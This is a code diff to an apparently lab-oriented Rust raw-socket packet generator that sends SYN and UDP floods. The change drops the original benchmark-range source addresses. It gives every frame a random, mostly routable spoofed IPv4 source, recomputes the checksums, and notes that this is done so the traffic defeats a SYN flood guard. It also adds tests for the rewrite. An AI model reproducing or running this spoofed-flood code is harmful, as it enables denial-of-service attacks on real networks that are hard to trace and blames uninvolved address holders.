@@ -99,13 +99,21 @@ fn send_loop(t: &Target, frames: &[Vec<u8>], stop: &AtomicBool) -> anyhow::Resul
         );
     }
     let deadline = Instant::now() + MAX_RUN;
+    let mut frames = frames.to_vec();
+    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
     let mut sent = 0u64;
     'run: loop {
-        for chunk in frames.chunks(256) {
+        for chunk in frames.chunks_mut(256) {
             if stop.load(Ordering::Relaxed) || Instant::now() > deadline {
                 break 'run;
             }
             for f in chunk {
+                // A new made-up source for every frame, as a spoofing flood has: the
+                // same address twice would pass the SYN flood guard as a retry.
+                x ^= x << 13;
+                x ^= x >> 7;
+                x ^= x << 17;
+                set_source(f, spoofed(x as u32));
                 let n = unsafe { libc::send(raw, f.as_ptr().cast(), f.len(), 0) };
                 if n > 0 {
                     sent += 1;
@@ -114,6 +122,36 @@ fn send_loop(t: &Target, frames: &[Vec<u8>], stop: &AtomicBool) -> anyhow::Resul
         }
     }
     Ok(sent)
+}
+
+/// A unicast address outside the lab's and the special-purpose ranges that matter here.
+fn spoofed(r: u32) -> Ipv4Addr {
+    let a = Ipv4Addr::from(r);
+    let o = a.octets();
+    if o[0] == 0 || o[0] == 10 || o[0] == 127 || o[0] >= 224 || (o[0] == 203 && o[1] == 0) {
+        Ipv4Addr::new(198, 18, o[2], o[3])
+    } else {
+        a
+    }
+}
+
+/// Rewrites a frame's IPv4 source address, with both checksums.
+fn set_source(f: &mut [u8], src: Ipv4Addr) {
+    const IP: usize = 14;
+    f[IP + 12..IP + 16].copy_from_slice(&src.octets());
+    f[IP + 10..IP + 12].copy_from_slice(&[0, 0]);
+    let c = csum(&[&f[IP..IP + 20]]);
+    f[IP + 10..IP + 12].copy_from_slice(&c.to_be_bytes());
+    let proto = f[IP + 9];
+    let off = IP + 20 + if proto == 6 { 16 } else { 6 };
+    f[off..off + 2].copy_from_slice(&[0, 0]);
+    let l4_len = f.len() - IP - 20;
+    let mut pseudo = [0u8; 12];
+    pseudo[..8].copy_from_slice(&f[IP + 12..IP + 20]);
+    pseudo[9] = proto;
+    pseudo[10..].copy_from_slice(&(l4_len as u16).to_be_bytes());
+    let c = csum(&[&pseudo, &f[IP + 20..]]);
+    f[off..off + 2].copy_from_slice(&c.to_be_bytes());
 }
 
 fn csum(parts: &[&[u8]]) -> u16 {
@@ -134,8 +172,8 @@ fn csum(parts: &[&[u8]]) -> u16 {
     !(sum as u16)
 }
 
-/// Half SYNs to `syn_port`, half 64-byte UDP datagrams to random ports, each from its own
-/// address in 198.18.0.0/15 (benchmark space) and port, checksums right.
+/// Half SYNs to `syn_port`, half 64-byte UDP datagrams to random ports, from random ports
+/// (the sender gives each frame a new source address), checksums right.
 fn frames(t: &Target) -> Vec<Vec<u8>> {
     let mut x: u64 = 0x2545_f491_4f6c_dd1d;
     let mut next = || {
@@ -234,6 +272,15 @@ mod tests {
             assert_eq!(csum(&[&pseudo, l4]), 0, "L4 checksum");
         }
         assert!(fs.iter().any(|f| f[14 + 9] == 6 && f[14 + 20 + 13] == 0x02));
+        let mut f = fs[0].clone();
+        set_source(&mut f, spoofed(0x0a01_0203));
+        assert_eq!(&f[26..30], &[198, 18, 2, 3]);
+        let ip = &f[14..];
+        assert_eq!(csum(&[&ip[..20]]), 0, "IPv4 header checksum after rewrite");
+        let mut pseudo = ip[12..20].to_vec();
+        pseudo.extend_from_slice(&[0, ip[9]]);
+        pseudo.extend_from_slice(&((ip.len() - 20) as u16).to_be_bytes());
+        assert_eq!(csum(&[&pseudo, &ip[20..]]), 0, "L4 checksum after rewrite");
         assert!(fs.iter().any(|f| f[14 + 9] == 17));
         assert_eq!(
             parse_mac("02:ab:00:00:00:01\n").unwrap(),
